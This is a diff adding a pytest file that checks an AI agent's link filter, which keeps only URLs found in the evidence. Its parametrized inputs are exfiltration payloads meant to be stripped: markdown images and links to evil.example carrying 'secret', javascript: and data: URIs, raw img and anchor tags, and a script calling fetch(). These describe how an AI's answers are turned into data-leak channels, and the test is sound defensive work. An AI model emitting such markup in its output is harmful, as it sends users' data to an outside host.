@@ -1,0 +1,40 @@
+"""Which links an answer may carry."""
+
+import pytest
+
+from stylegraph.agent.evidence import make_evidence
+from stylegraph.agent.links import links_in, without_links
+
+KNOWN = links_in([make_evidence("web", "page", "See https://shop.example/a?b=1.", url="https://ok.example/page")])
+
+
+def test_what_the_evidence_holds_may_be_linked():
+    text = "보세요: https://ok.example/page, [여기](https://shop.example/a?b=1)."
+    assert without_links(text, KNOWN) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/x.png?q=secret)",
+        "![x](//evil.example/x.png?q=secret)",
+        "[click](https://ok.example/page?q=secret)",
+        "[click](javascript:alert('secret'))",
+        "[click](data:text/html,secret)",
+        "https://evil.example/secret",
+        "HTTPS://EVIL.EXAMPLE/secret",
+        "www.evil.example/secret",
+        "ftp://evil.example/secret",
+        "<img src='https://evil.example/secret'>",
+        '<a href="//evil.example/secret">x</a>',
+        "<script>fetch('https://evil.example/secret')</script>",
+    ],
+)
+def test_no_other_address_gets_out(text):
+    kept = without_links(f"앞 {text} 뒤", KNOWN)
+    assert "secret" not in kept
+    assert kept.startswith("앞 ")
+
+
+def test_a_picture_of_the_evidence_becomes_a_link():
+    assert "![" not in without_links("![x](https://ok.example/page)", KNOWN)
